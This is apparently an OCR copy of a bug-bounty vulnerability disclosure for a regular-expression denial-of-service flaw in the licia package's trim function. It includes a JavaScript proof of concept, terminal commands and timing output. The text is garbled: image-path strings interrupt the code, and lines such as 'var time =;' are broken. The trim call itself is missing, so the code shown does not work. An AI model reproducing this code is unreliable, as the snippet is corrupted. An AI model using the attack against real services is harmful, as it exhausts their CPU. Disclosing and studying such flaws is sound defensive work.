Inefficient Regular Expression Complexity in liriliri/licia


Reported on

Jul 18th 2021

✍ Description

A ReDoS (regular expression denial of service) flaw was found in the licia package. An attacker that is able to provide crafted input to the trim function may cause an application to consume an excessive amount of CPU.

Similar to

♂ Proof of Concept

Create the following PoC file:

// PoC.js
var l = require('licia');

function build_blank (n) {
var ret = "1"
for (var i = 0; i < n; i++) {
ret += " "return ret + "1";

var s = build_blank(50000)
var time =;
var time_cost = - time;
console.log("time_cost: " + time_cost)

Execute the following in terminal:

npm i licia
node poc.js

Check the Output:

time_cost: 2269

 ImpactThis vulnerability is capable of exhausting system resources and leads to crashes.  Location trim.js#L26

We have contacted a member of the liriliri/licia team and are waiting to hear back a year ago
ready-research modified the report
a year ago
RedHoodSu confirmed thata fix has been merged on 10006a a year ago
RedHoodSu has been awarded thefix bounty
to join this conversation